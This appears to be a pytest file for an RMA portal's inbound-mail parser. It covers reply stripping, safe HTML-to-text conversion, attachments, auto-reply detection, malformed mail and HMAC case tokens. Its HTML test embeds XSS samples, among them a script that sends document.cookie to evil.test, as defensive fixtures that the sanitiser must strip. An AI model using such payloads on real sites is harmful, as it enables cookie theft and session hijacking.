"""Reading a message for the handlers: the text (HTML-only mail converted safely), the new
text of a reply, attachments, automatic messages, malformed ones, and the case tokens of
reply addresses and threads."""

from __future__ import annotations

import time

import pytest

from rma_portal.inbound import replies
from rma_portal.inbound.parsing import html_to_text, parse_mail, strip_reply

from .conftest import build_mail, png_bytes

# --- text -----------------------------------------------------------------------------------


def test_a_plain_message_gives_sender_subject_text_and_new_text():
    mail = parse_mail(
        build_mail(
            "Zgłoszenie: pęknięta obudowa",
            sender="Jan Kowalski <Jan@Customer.TEST>",
            text="Obudowa pękła.\n\nPozdrawiam\nJan Kowalski\n",
        )
    )
    assert (mail.sender, mail.sender_name) == ("jan@customer.test", "Jan Kowalski")
    assert mail.subject == "Zgłoszenie: pęknięta obudowa"
    assert mail.text == "Obudowa pękła.\n\nPozdrawiam\nJan Kowalski"
    assert mail.new_text == "Obudowa pękła."
    assert (mail.malformed, mail.automatic, mail.html_only) == ("", "", False)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "Thanks, here are the photos.\n\nBest regards,\nJan\n\n"
            "On Tue, 3 Mar 2026 at 10:00, Alpha Support <support@alpha.test> wrote:\n"
            "> Please send photos.\n> Alpha\n",
            "Thanks, here are the photos.",
        ),
        (
            "Przesyłam zdjęcia.\n\nZ poważaniem\nJan\n\n"
            "Dnia 3 marca 2026 10:00 Alpha <support@alpha.test> napisał(a):\n"
            "> Prosimy o zdjęcia.\n",
            "Przesyłam zdjęcia.",
        ),
        (
            "See below.\n\nFrom: Alpha Support <support@alpha.test>\nSent: Tuesday\n"
            "To: Jan\nSubject: Complaint\n\nPlease send photos.\n",
            "See below.",
        ),
        ("Answer on top.\n> quoted\n> more quoted\n", "Answer on top."),
        ("Signed off.\n-- \nJan Kowalski\nAcme\n", "Signed off."),
        # A single header-like line is the customer's text, not a quote (Polish too).
        (
            "Data: 2026-03-01\nNumer faktury: FV/1/2026\nObudowa pękła.\n",
            "Data: 2026-03-01\nNumer faktury: FV/1/2026\nObudowa pękła.",
        ),
        # Lists are not signatures.
        ("What is wrong:\n- it leaks\n- it hums\n", "What is wrong:\n- it leaks\n- it hums"),
        # Nothing new above the quote.
        ("On Tue, 3 Mar 2026 at 10:00, Alpha <a@alpha.test> wrote:\n> old\n", ""),
    ],
)
def test_quoted_history_and_signatures_are_stripped(text, expected):
    assert strip_reply(text) == expected


def test_very_long_lines_cost_no_time():
    # The library's header patterns backtrack on long lines; they are wrapped first.
    hostile = ("On " + "x " * 5000 + "\n") * 20 + "On " + "y" * 200_000
    started = time.process_time()
    strip_reply(hostile)
    assert time.process_time() - started < 5  # a guard, not a measurement: seconds, not minutes


def test_html_only_mail_is_converted_to_text_without_scripts():
    html = (
        "<html><head><title>Invoice</title><style>p{color:red}</style>"
        "<script>alert('head')</script></head><body>"
        "<p>Hello <b>support</b>,</p><p>the pump&nbsp;leaks.<br>Second line</p>"
        "<ul><li>one</li><li>two</li></ul>"
        "<script>document.location='https://evil.test/?'+document.cookie</script>"
        "<img src=x onerror=\"alert('img')\"><iframe src='https://evil.test'>framed</iframe>"
        "<a href=\"javascript:alert('link')\">the link text</a>"
        "<div>On Mon, 2 Mar 2026 at 09:00, Alpha &lt;support@alpha.test&gt; wrote:"
        "<blockquote>Old <i>text</i></blockquote></div></body></html>"
    )
    mail = parse_mail(build_mail(text=None, html=html))

    assert mail.html_only
    assert mail.text.startswith("Hello support,\n\nthe pump leaks.\nSecond line\n\n- one\n- two")
    assert "the link text" in mail.text
    assert "> Old text" in mail.text
    for unsafe in ("alert", "script", "evil", "onerror", "<", "framed", "color:red"):
        assert unsafe not in mail.text.replace("<support@alpha.test>", "")
    assert (
        mail.new_text
        == "Hello support,\n\nthe pump leaks.\nSecond line\n\n- one\n- two\n\nthe link text"
    )


def test_unclosed_scripts_swallow_the_rest_rather_than_show_it():
    assert html_to_text("<p>Visible</p><script>hidden <p>still hidden") == "Visible"


def test_the_plain_alternative_is_preferred_to_the_html_one():
    mail = parse_mail(build_mail(text="Plain words.\n", html="<p>HTML <b>words</b></p>"))
    assert (mail.text, mail.html_only) == ("Plain words.", False)


def test_a_body_without_a_charset_is_read_as_utf8_else_windows_1252():
    raw = "From: a@b.test\nSubject: Zażółć\n\nNapisał(a): ł\n".encode()
    assert parse_mail(raw).text == "Napisał(a): ł"
    assert parse_mail(b"From: a@b.test\n\nCaf\xe9\n").text == "Café"


def test_nul_bytes_and_control_characters_are_dropped():
    mail = parse_mail(build_mail(text="A\x00B\x07C\n"))
    assert mail.text == "ABC"


# --- attachments ----------------------------------------------------------------------------


def test_attachments_are_the_files_not_the_bodies():
    photo = png_bytes()
    raw = build_mail(
        text="See the photo.\n",
        html="<p>See the photo.</p>",
        attachments=(("photo.png", "image/png", photo), ("notes.txt", "text/plain", b"x\n")),
    )
    mail = parse_mail(raw)
    assert [(a.filename, a.content_type, a.data) for a in mail.attachments] == [
        ("photo.png", "image/png", photo),
        ("notes.txt", "text/plain", b"x\n"),
    ]


def test_inline_images_of_an_html_body_are_not_attachments():
    raw = (
        b"From: jan@customer.test\r\nTo: support@alpha.test\r\nSubject: logo\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=R\r\n\r\n"
        b"--R\r\nContent-Type: text/html\r\n\r\n<p>Text</p><img src=cid:logo>\r\n"
        b"--R\r\nContent-Type: image/png\r\nContent-ID: <logo>\r\n"
        b"Content-Disposition: inline; filename=logo.png\r\n\r\nPNG\r\n--R--\r\n"
    )
    mail = parse_mail(raw)
    assert (mail.text, mail.attachments) == ("Text", [])


# --- automatic and malformed ------------------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "sender", "expected"),
    [
        ({"Auto-Submitted": "auto-replied"}, "jan@customer.test", "Auto-Submitted: auto-replied"),
        ({"Auto-Submitted": "auto-generated; owner-email=x"}, "jan@customer.test", "Auto-"),
        ({"X-Autoreply": "yes"}, "jan@customer.test", "X-Autoreply"),
        ({"X-Autorespond": "Out of office"}, "jan@customer.test", "X-Autorespond"),
        ({"Precedence": "bulk"}, "jan@customer.test", "Precedence: bulk"),
        ({"Precedence": "auto_reply"}, "jan@customer.test", "Precedence: auto_reply"),
        ({"Precedence": "junk"}, "jan@customer.test", "Precedence: junk"),
        ({}, "MAILER-DAEMON@mx.customer.test", "mailer-daemon"),
        ({}, "postmaster@customer.test", "postmaster"),
        ({"Return-Path": "<>"}, "jan@customer.test", "empty return path"),
    ],
)
def test_auto_replies_and_bounces_are_recognised(headers, sender, expected):
    mail = parse_mail(build_mail("Out of office", sender=sender, headers=headers))
    assert expected in mail.automatic


def test_a_person_saying_auto_submitted_no_is_a_person():
    mail = parse_mail(build_mail(headers={"Auto-Submitted": "no", "Precedence": "first-class"}))
    assert mail.automatic == ""


def test_a_delivery_status_notification_is_automatic():
    raw = (
        b"From: Mail Delivery System <bounces@mx.alpha.test>\r\nTo: support@alpha.test\r\n"
        b"Subject: Undelivered Mail\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/report; report-type=delivery-status; boundary=B\r\n\r\n"
        b"--B\r\nContent-Type: text/plain\r\n\r\nCould not deliver.\r\n"
        b"--B\r\nContent-Type: message/delivery-status\r\n\r\nStatus: 5.1.1\r\n--B--\r\n"
    )
    assert "multipart/report" in parse_mail(raw).automatic


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (b"", "empty"),
        (
            b"From: jan@customer.test\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: multipart/mixed; boundary=XYZ\r\n\r\nno parts at all\r\n",
            "StartBoundaryNotFoundDefect",
        ),
        (
            b"From: jan@customer.test\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: multipart/mixed\r\n\r\n--\r\nbody\r\n",
            "NoBoundaryInMultipartDefect",
        ),
        (b"Subject: nobody sent this\r\n\r\nbody\r\n", "no sender"),
    ],
)
def test_malformed_messages_say_why(raw, expected):
    assert expected in parse_mail(raw).malformed


def test_a_dmarc_failure_reported_by_the_receiving_server_is_noticed():
    raw = build_mail(
        headers={"Authentication-Results": "mx.alpha.test; spf=softfail; dmarc=fail (p=none)"}
    )
    assert parse_mail(raw).dmarc_failed
    assert not parse_mail(build_mail()).dmarc_failed


# --- case tokens ----------------------------------------------------------------------------


def test_a_token_names_tenant_kind_and_case_and_survives_lower_casing(settings):
    token = replies.case_token(tenant_id=7, kind="complaint", case_id=12345)
    address = replies.reply_address("Support+old@Alpha.test", token)
    assert address == f"Support+c-{token}@Alpha.test"
    assert len(address.partition("@")[0]) <= 64

    found = replies.find_case(parse_mail(build_mail(to=address.upper())))
    assert (found.case.kind, found.case.tenant_id, found.case.case_id, found.case.via) == (
        "complaint",
        7,
        12345,
        "address",
    )


def test_a_token_changed_by_hand_is_no_token(settings):
    token = replies.case_token(tenant_id=7, kind="complaint", case_id=12345)
    # Complaint 12346 instead, with 12345's HMAC.
    forged = token.replace("-9ix-", "-9iy-")
    assert forged != token
    found = replies.find_case(parse_mail(build_mail(to=f"support+c-{forged}@alpha.test")))
    assert found.case is None
    assert found.forged_address == f"support+c-{forged}@alpha.test"


def test_the_thread_names_the_case_when_the_address_lost_its_token(settings):
    token = replies.case_token(tenant_id=3, kind="return", case_id=9)
    raw = build_mail(
        to="support@alpha.test",
        headers={"In-Reply-To": "<x@mail.test>", "References": replies.thread_message_id(token)},
    )
    found = replies.find_case(parse_mail(raw))
    assert (found.case.kind, found.case.case_id, found.case.via) == ("return", 9, "references")


def test_tokens_made_with_an_old_key_still_verify(settings):
    token = replies.case_token(tenant_id=1, kind="complaint", case_id=1)
    settings.SECRET_KEY_FALLBACKS = [settings.SECRET_KEY]
    settings.SECRET_KEY = "a-new-key-" + "x" * 50
    found = replies.find_case(parse_mail(build_mail(to=f"support+c-{token}@alpha.test")))
    assert found.case is not None
    settings.SECRET_KEY_FALLBACKS = []
    found = replies.find_case(parse_mail(build_mail(to=f"support+c-{token}@alpha.test")))
    assert found.case is None
